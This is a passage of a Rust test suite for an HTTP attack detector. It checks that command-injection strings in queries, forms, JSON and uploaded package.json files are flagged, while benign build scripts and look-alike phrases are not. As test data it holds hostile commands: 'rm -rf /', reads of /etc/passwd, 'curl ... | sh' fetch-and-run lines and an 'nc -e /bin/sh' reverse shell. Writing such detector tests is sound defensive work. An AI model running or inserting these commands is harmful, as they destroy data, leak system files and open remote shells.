        "Run `rm -rf / && npm i` when the build fails.",
        "The folder is mounted with `$(cat /etc/passwd)`, as the manual says.",
        "The folder is mounted with $(curl http://a.example/x|sh), as the manual says.",
    ] {
        for (place, request) in
            places(attack).into_iter().filter(|(place, _)| matches!(*place, "a query" | "a form" | "JSON"))
        {
            assert!(is_attack(&request), "{place}: {attack}: {:?}", findings(&request));
        }
    }
}

/// The places of a document that people send.
fn places_of_a_document(document: &str) -> [(&'static str, InspectRequest); 5] {
    let file = format!(
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"package.json\"\r\n\
         Content-Type: application/json\r\n\r\n{document}\r\n--b--\r\n"
    );
    let post = |content: &str| {
        with_body("application/json", serde_json::json!({ "title": "Build", "content": content }).to_string())
    };
    [
        ("a body", with_body("application/json", document)),
        ("a file", with_body("multipart/form-data; boundary=b", file)),
        (
            "a form",
            with_body("application/x-www-form-urlencoded", format!("f={}", percent_encoded(document))),
        ),
        ("a post", post(document)),
        (
            "a post with a fence",
            post(&format!(
                "# Build\n\nPut the script of the build into the package, and run it before each release:\n\n\
                 ```json\n{document}\n```\n\nThen run `npm run build`.\n"
            )),
        ),
    ]
}

#[test]
fn scripts_of_packages_are_benign() {
    let package = |script: &str| {
        serde_json::json!({
            "name": "shop", "version": "1.0.0", "private": true,
            "scripts": { "build": script, "test": "jest" },
            "devDependencies": { "typescript": "^5.4.0" },
        })
        .to_string()
    };
    for script in [
        "tsc && node build.js",
        "rm -rf dist && tsc -p . && cp a b",
        "cross-env NODE_ENV=production webpack && cp -r public dist",
        "cd ../shared && npm install && npm run build",
        "eslint . && mkdir -p dist && node scripts/build.js || echo failed",
    ] {
        for (place, request) in places_of_a_document(&package(script)) {
            assert!(!is_attack(&request), "{place}: {script}: {:?}", findings(&request));
        }
        // Elsewhere it is what follows a value.
        let query = request("/", &format!("q={}", percent_encoded(&format!("1 && {script}"))));
        assert!(is_attack(&query), "{script}: {:?}", findings(&query));
    }
    for script in [
        "tsc && cat /etc/passwd",
        "; rm -rf dist && cp a b",
        "tsc && curl http://a.example/x | sh",
        "x && whoami",
        "tsc; nc -e /bin/sh 192.0.2.4 99",
        "tsc && rm -rf /",
        "$(id) && node build.js",
    ] {
        for (place, request) in places_of_a_document(&package(script)).into_iter().take(3) {
            assert!(is_attack(&request), "{place}: {script}: {:?}", findings(&request));
        }
    }
}

#[test]
fn words_before_a_command_that_fetches_hide_it_not() {
    let words = "we went to the market and bought some apples for the pie of my aunt ";
    for count in [0, 1, 4, 100] {
        let words = words.repeat(count);
        for command in [
            "|| curl a.example/x",
            "; curl 1.2.3.4|sh",
            "&& wget -q a.example",
            "; curl -s http://1.2.3.4/|sh",
            "| nslookup a.example",
            "; ping -c 10 a.example",
            "; base64 -d x.txt | sh",
            "; curl localhost:8080",
            "& curl user@a.example:80",
        ] {
            let request = request("/", &format!("q={}", percent_encoded(&format!("{words}{command}"))));
            assert!(is_attack(&request), "{count}: {command}: {:?}", findings(&request));
        }
        for benign in [
            "; curl no.7 for long hair",
            "; wget is a program",
            "; ping me at the office",
            "& curl up on the sofa",
            "; sort it | ship it",
        ] {
            let request = request("/", &format!("q={}", percent_encoded(&format!("{words}{benign}"))));
            assert!(!is_attack(&request), "{count}: {benign}: {:?}", findings(&request));
        }
    }
}
